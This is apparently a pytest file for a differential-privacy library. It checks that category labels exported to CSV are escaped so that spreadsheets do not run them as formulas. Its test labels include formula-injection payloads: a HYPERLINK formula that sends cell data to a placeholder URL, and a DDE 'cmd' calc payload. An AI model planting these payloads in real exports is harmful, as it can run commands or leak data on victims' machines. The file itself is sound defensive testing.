"""Labels in CSV files: none is a formula to a spreadsheet, every one can be had back, and numbers stay."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import polars as pl
import pytest
from tests.builders import plan_text
from typer.testing import CliRunner

import discreet as dp
from discreet.cli import app
from discreet.releases.frames import for_csv

pytestmark = pytest.mark.usefixtures("one_artist")

LABELS = [
    '=HYPERLINK("https://example.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",
    "'=a",
    "''@b",
    "-5",
    "+4.5e3",
    "'-7",
    "'plain",
    "plain",
    "a=b",
    "[-10, 0)",
    "\u22123",
]
KEPT = {"-5", "+4.5e3", "'-7", "'plain", "plain", "a=b", "[-10, 0)", "\u22123"}


@pytest.fixture(scope="module")
def release() -> dp.Release:
    schema = dp.Schema(**{"=c": dp.Category(LABELS)})
    options = {"dataset": "d", "ledger": ":memory:", "budget": dp.ZCDP(1), "neighbours": dp.AddRemove()}
    with dp.Session(pl.DataFrame({"=c": LABELS}), schema, **options) as one:  # type: ignore[arg-type]
        return one.release(one.table.group_by("=c").agg(dp.count()), spend="0.001", name="r")


def read(folder: Path, file: str = "table.csv") -> tuple[list[str], list[list[str]]]:
    with (folder / file).open(encoding="utf-8", newline="") as opened:
        header, *rows = csv.reader(opened)
    return header, rows


def test_no_label_is_a_formula_and_every_one_can_be_had_back(release: dp.Release, tmp_path: Path) -> None:
    header, rows = read(release.save(tmp_path))
    shown = [row[0] for row in rows]
    assert header[0] == "'=c"
    assert shown.pop() == ""  # the null group
    for label, text in zip(LABELS, shown, strict=True):
        assert text == (label if label in KEPT else f"'{label}")
    counts = [[int(cell) for cell in row[1:]] for row in rows]
    assert counts == [list(row[1:]) for row in release.table.rows()]
    assert any(cell < 0 for row in counts for cell in row)  # negative numbers are no formulas


def test_other_files_and_the_release_have_the_labels_as_they_are(release: dp.Release, tmp_path: Path) -> None:
    release.save(tmp_path)
    assert pl.read_parquet(tmp_path / "table.parquet")["=c"].to_list() == [*LABELS, None]
    assert dp.Release.load(tmp_path).table["=c"].to_list() == [*LABELS, None]
    assert dp.Release.load(tmp_path) == release


def test_labels_are_kept_where_that_is_asked_for(release: dp.Release, tmp_path: Path) -> None:
    header, rows = read(release.save(tmp_path, formulas="keep"))
    assert (header[0], [row[0] for row in rows]) == ("=c", [*LABELS, ""])


@pytest.mark.parametrize("formulas", ["", "Escape", None, True, 1])
def test_anything_else_is_refused_before_a_file_is_written(release: dp.Release, tmp_path: Path, formulas: object) -> None:
    with pytest.raises(dp.ArgumentError, match=r"formulas=.*must be 'escape' or 'keep'"):
        release.save(tmp_path / "out", formulas=formulas)  # type: ignore[arg-type]
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("label", ["\t=1", "\r=1", "\n=1", "=", "-", "+", "@"])
def test_every_beginning_that_spreadsheets_know_is_escaped(label: str) -> None:
    frame = pl.DataFrame({"c": [label, None], "n": [-1, None]})
    assert for_csv(frame, "escape").rows() == [(f"'{label}", -1), (None, None)]


def test_names_that_meet_after_escaping_stay_apart() -> None:
    frame = pl.DataFrame({"=a": ["x"], "'=a": ["y"]})
    assert for_csv(frame, "escape").columns == ["'=a", "''=a"]


PLAN = plan_text("formulas")


def test_commands_escape_and_keep(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("d.csv").write_text("c\nb\n=1+1\n", encoding="utf-8")
    Path("plan.toml").write_text(PLAN, encoding="utf-8")

    def run(*arguments: str) -> int:
        return CliRunner().invoke(app, list(arguments)).exit_code

    assert run("release", "plan.toml", "--out", "no", "--formulas", "other") == 2
    assert not Path("budget.db").exists()
    assert run("release", "plan.toml", "--out", "out") == 0
    assert run("release", "plan.toml", "--out", "kept", "--formulas", "keep") == 0
    assert run("consistent", "out") == run("consistent", "kept", "--formulas", "keep") == 0
    for folder, label in (("out", "'=1+1"), ("kept", "=1+1")):
        for file in ("table.csv", "consistent.csv"):
            assert read(Path(folder), file)[1][0][0] == label
    assert json.loads(Path("out/release.json").read_bytes()) == json.loads(Path("kept/release.json").read_bytes())
